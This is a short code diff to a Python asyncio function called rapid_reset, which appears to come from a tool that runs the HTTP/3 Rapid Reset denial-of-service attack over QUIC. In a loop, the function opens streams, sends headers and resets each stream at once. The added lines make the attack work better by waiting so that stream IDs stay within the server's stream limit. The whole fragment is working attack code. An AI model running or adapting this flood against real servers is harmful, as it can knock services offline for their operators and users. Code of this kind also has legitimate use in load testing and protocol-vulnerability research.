@@ -132,6 +132,9 @@ async def rapid_reset(attacker):
         if attacker.end.done():
             break
         stream = attacker._quic.get_next_available_stream_id()
+        # The library would reset streams that it may not open yet.
+        while stream // 4 >= attacker._quic._remote_max_streams_bidi and not attacker.end.done():
+            await asyncio.sleep(0.001)
         attacker.http.send_headers(stream, FIELDS, False)
         attacker._quic.reset_stream(stream, 0x10C)
         attacker.transmit()
